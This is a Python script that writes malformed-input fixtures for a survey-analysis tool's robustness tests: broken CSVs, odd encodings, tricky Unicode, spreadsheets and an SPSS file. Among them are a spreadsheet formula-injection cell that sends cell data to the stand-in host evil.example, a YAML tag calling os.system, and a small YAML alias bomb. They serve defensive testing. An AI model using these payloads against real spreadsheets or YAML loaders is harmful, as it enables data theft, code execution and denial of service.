"""Write the bad-input files of the robustness suite into ``tests/data/bad/``.

Every file is tiny (a few hundred bytes) and written deterministically, so running the script
twice gives identical bytes (``tests/test_bad_inputs.py`` checks the committed files against
:func:`build_files`). Large inputs (answers of hundreds of thousands of characters) are not
stored: the tests build them in a temporary folder with :func:`long_answer_csv`.

Usage::

    .venv/bin/python scripts/make_bad_inputs.py [--out tests/data/bad]
"""

from __future__ import annotations

import argparse
import io
import zipfile
from collections.abc import Callable
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
BAD = REPO / "tests" / "data" / "bad"

#: Twelve plausible French answers (enough distinct words for a 2-3 theme model).
ANSWERS = (
    "Mise en place de la visio et du télétravail pour toute l'équipe",
    "Nous manquons de moyens humains et de matériel informatique",
    "La DSI était débordée, nous avons fait l'assistance technique",
    "Beaucoup plus de communication interne vers les agents en télétravail",
    "Pas assez de moyens humains, une seule personne pour tout le service",
    "Des vidéos en direct sur Facebook pour les conseils municipaux",
    "Outils collaboratifs dans le cloud, visio avec Teams et Zoom",
    "Manque de matériel : ordinateurs portables et téléphones",
    "Rôle de conseil auprès des élus et de la direction générale",
    "Newsletter interne hebdomadaire pour garder le lien avec les agents",
    "Live Facebook et webinaires pour remplacer les événements annulés",
    "Support technique aux collègues à la place de la DSI",
)
ROLES = ("dircom", "chargé", "dircom", "autre") * 3


def _csv(rows: list[list[str]], *, sep: str = ",", eol: str = "\n") -> str:
    def cell(value: str) -> str:
        if any(c in value for c in (sep, '"', "\n", "\r")):
            return '"' + value.replace('"', '""') + '"'
        return value

    return "".join(sep.join(cell(v) for v in row) + eol for row in rows)


def survey_rows(answers: tuple[str, ...] | list[str] = ANSWERS) -> list[list[str]]:
    """Header ``id, fonction, reponse`` then one row per answer (ids ``r01``, ``r02``...)."""
    rows = [["id", "fonction", "reponse"]]
    for i, text in enumerate(answers, start=1):
        rows.append([f"r{i:02d}", ROLES[(i - 1) % len(ROLES)], text])
    return rows


def long_answer_csv(path: Path, *, n_chars: int = 300_000, n_rows: int = 12) -> Path:
    """Write the good survey with answer 1 repeated to ``n_chars`` characters (UTF-8)."""
    answers = list(ANSWERS[:n_rows])
    base = answers[0] + ". "
    answers[0] = (base * (n_chars // len(base) + 1))[:n_chars]
    path.write_text(_csv(survey_rows(answers)), encoding="utf-8")
    return path


def _xlsx_multi_sheet() -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    notice = wb.active
    notice.title = "Notice"
    notice["A1"] = "Export de la plateforme d'enquête"
    notice["A2"] = "Les réponses sont dans la feuille Réponses."
    data = wb.create_sheet("Réponses")
    for row in survey_rows():
        data.append(row)
    wb.create_sheet("Vide")
    return _workbook_bytes(wb)


def _xlsx_merged_header() -> bytes:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.title = "Export"
    # Two header rows: "Profil" spans id and fonction, "Question ouverte" spans one column.
    ws.append(["Profil", None, "Question ouverte"])
    ws.merge_cells("A1:B1")
    ws.append(["id", "fonction", "reponse"])
    for row in survey_rows()[1:]:
        ws.append(row)
    return _workbook_bytes(wb)


def _workbook_bytes(wb) -> bytes:
    # openpyxl stamps the creation/modification time; fix it (and the zip entry dates) so that
    # the file's bytes do not change between runs of this script.
    from datetime import datetime

    stamp = datetime(2020, 6, 1)
    wb.properties.created = stamp
    wb.properties.modified = stamp
    buf = io.BytesIO()
    wb.save(buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as dst:
        for info in sorted(src.infolist(), key=lambda i: i.filename):
            data = src.read(info.filename)
            if info.filename == "docProps/core.xml":
                data = _fix_core_dates(data)
            fixed = zipfile.ZipInfo(info.filename, date_time=(1980, 1, 1, 0, 0, 0))
            fixed.compress_type = zipfile.ZIP_DEFLATED
            dst.writestr(fixed, data)
    return out.getvalue()


def _fix_core_dates(xml: bytes) -> bytes:
    import re

    return re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2020-06-01T00:00:00Z", xml)


def _sav_value_labels(path: Path) -> None:
    import pandas as pd
    import pyreadstat

    frame = pd.DataFrame({
        "id": [f"r{i:02d}" for i in range(1, 13)],
        "taille": [1.0, 2.0, 3.0, 2.0, 2.0, 1.0, 3.0, 2.0, 2.0, 1.0, 3.0, 2.0],
        "reponse": list(ANSWERS),
    })
    pyreadstat.write_sav(
        frame, str(path),
        column_labels=["Identifiant", "Taille de la collectivité", "Évolution du rôle"],
        variable_value_labels={"taille": {1.0: "< 10 000", 2.0: "10 000 - 50 000",
                                          3.0: "> 50 000"}},
    )  # fmt: skip
    # The SPSS header stamps the writing date and time (bytes 92-108); fix them.
    data = bytearray(path.read_bytes())
    data[92:109] = b"01 Jun 2000:00:00"
    path.write_bytes(bytes(data))


def _text_files() -> dict[str, bytes]:
    good = _csv(survey_rows())
    files: dict[str, str | bytes] = {}
    files["good.csv"] = good
    files["empty.csv"] = b""
    files["blank_lines.csv"] = "\n  \n\r\n"
    files["header_only.csv"] = "id,fonction,reponse\n"
    # A PNG signature and a few binary bytes: the file is not a table whatever its name.
    files["binary.csv"] = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256))
    # A zip archive (an .xlsx renamed .csv): binary, starts with "PK".
    files["xlsx_renamed.csv"] = _xlsx_multi_sheet()
    # Bytes that are invalid in UTF-8 and mostly control characters in Latin-1, without NUL.
    files["binary_no_nul.csv"] = bytes((7 * i + 1) % 255 + 1 for i in range(600))
    files["cp1252.csv"] = good.replace("l'équipe", "l’équipe « vite »").encode("cp1252")
    files["latin1.csv"] = good.encode("latin-1")
    files["utf16.csv"] = good.encode("utf-16")
    # UTF-8 rows followed by one cp1252 row (two exports concatenated).
    lines = good.splitlines(keepends=True)
    files["mixed_encoding.csv"] = "".join(lines[:-1]).encode("utf-8") + lines[-1].replace(
        "DSI", "DSI – à côté"
    ).encode("cp1252")
    files["bom_crlf.csv"] = b"\xef\xbb\xbf" + _csv(survey_rows(), sep=";", eol="\r\n").encode()
    files["semicolon_cr_only.csv"] = _csv(survey_rows(), sep=";", eol="\r")
    ragged = survey_rows()
    ragged[3] = ragged[3] + ["en trop", "encore"]
    files["ragged_long.csv"] = _csv(ragged)
    short = survey_rows()
    short[4] = short[4][:2]
    files["ragged_short.csv"] = _csv(short)
    rows = survey_rows()
    body = _csv(rows[:5]) + 'r05,dircom,"une réponse dont le guillemet ne ferme jamais\n'
    files["unclosed_quote.csv"] = body + _csv(rows[6:])
    files["duplicate_columns.csv"] = good.replace("id,fonction,reponse", "id,reponse,reponse", 1)
    files["duplicate_ids.csv"] = good.replace("r03,", "r02,", 1)
    files["missing_ids.csv"] = good.replace("r03,", ",", 1)
    files["text_empty.csv"] = _csv(survey_rows([""] * 12))
    nonanswers = ["RAS", "NSP", "je ne sais pas", "-", "/", "…", "néant", "idem", "pas d'avis",
                  "Rien à signaler", "ras", "aucun"]
    files["text_nonanswers.csv"] = _csv(survey_rows(nonanswers))
    files["text_numbers.csv"] = _csv(survey_rows([str(n) for n in (3, 12, 7, 0, 45, 12, 9, 1,
                                                                   30, 2, 8, 5)]))
    files["single_answer.csv"] = _csv(survey_rows(ANSWERS[:1]))
    unicode_answers = list(ANSWERS)
    unicode_answers[0] = "Télétravail 🏠💻 et visio 👍🏽 avec l'équipe 👨‍👩‍👧"
    unicode_answers[1] = "نقص في الوسائل — manque de moyens humains"
    unicode_answers[2] = "La\u200bDSI\u200d était\u2060 débordée\ufeff, assistance\u200e technique"
    unicode_answers[3] = "Te\u0301le\u0301travail (accents décomposés, NFD) et communication"
    unicode_answers[4] = "מחסור באמצעים \u202eesrever\u202c pas assez de moyens humains"
    unicode_answers[5] = "Vidéos\u00a0en\u202fdirect sur Facebook\u2028pour les conseils"
    files["unicode.csv"] = _csv(survey_rows(unicode_answers))
    formula = list(ANSWERS)
    formula[0] = '=HYPERLINK("http://evil.example/?x="&A1,"cliquez")'
    formula[1] = "+33 6 12 34 56 78 appelez-moi, manque de moyens humains"
    formula[2] = "-DSI débordée, assistance technique"
    formula[3] = "@SUM(1+1) communication interne vers les agents"
    files["formula_cells.csv"] = _csv(survey_rows(formula))
    # Respondent ids that look like spreadsheet formulas (phone numbers, negative numbers...).
    id_rows = survey_rows()
    for i, row in enumerate(id_rows[1:], start=1):
        row[0] = (f"+3361234{i:04d}", f"-{i}", f"=A{i}", f"@r{i}")[i % 4]
    files["formula_ids.csv"] = _csv(id_rows)
    files["codebook_unknown_keys.yaml"] = (
        "themes:\n  - name: Outils\n    seeds: [visio, cloud]\n    colour: red\n"
        "couleurs: [rouge]\n"
    )
    files["codebook_empty_seeds.yaml"] = (
        "themes:\n  - name: Outils\n    seeds: []\n  - name: Moyens\n    seeds: [moyens]\n"
    )
    files["codebook_python_tag.yaml"] = (
        "themes: !!python/object/apply:os.system ['echo pwned > pwned.txt']\n"
    )
    # A "billion laughs" codebook, kept small (9**4 strings): aliases multiply the size of what
    # is built; at depth 8 loading it does not finish (see docs/robustness.md).
    levels = ['description: &l0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol", "lol"]']
    for d in range(1, 4):
        levels.append(f"description: &l{d} [" + ", ".join([f"*l{d - 1}"] * 9) + "]")
    files["codebook_alias_bomb.yaml"] = "themes:\n" + "".join(
        f"  - name: T{i}\n    {line}\n" for i, line in enumerate(levels)
    ) + "  - name: Outils\n    seeds: [*l3]\n"
    files["labels_unknown_ids.csv"] = _csv(
        [["respondent_id", "code"], ["r01", "Outils"], ["r02", "Moyens"], ["zz99", "Outils"],
         ["r05", "Moyens"], ["r07", "Outils"], ["r08", "Moyens"], ["nope", "Moyens"]]
    )
    files["labels_good.csv"] = _csv(
        [["respondent_id", "code"]]
        + [[f"r{i:02d}", "Outils" if i % 2 else "Moyens"] for i in range(1, 13)]
    )
    files["not_a_survey.json"] = '{"id": 1}\n'
    return {k: v.encode("utf-8") if isinstance(v, str) else v for k, v in files.items()}


def build_files(folder: Path) -> list[Path]:
    """Write every bad-input file into ``folder`` (created) and return their paths."""
    folder.mkdir(parents=True, exist_ok=True)
    written = []
    for name, data in sorted(_text_files().items()):
        (folder / name).write_bytes(data)
        written.append(folder / name)
    binary: dict[str, Callable[[], bytes]] = {
        "multi_sheet.xlsx": _xlsx_multi_sheet,
        "merged_header.xlsx": _xlsx_merged_header,
    }
    for name, make in binary.items():
        (folder / name).write_bytes(make())
        written.append(folder / name)
    _sav_value_labels(folder / "value_labels.sav")
    written.append(folder / "value_labels.sav")
    return written


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=BAD, help="Folder to write the files into.")
    args = parser.parse_args()
    for path in build_files(args.out):
        print(f"{path.stat().st_size:>7}  {path.relative_to(args.out)}")


if __name__ == "__main__":
    main()
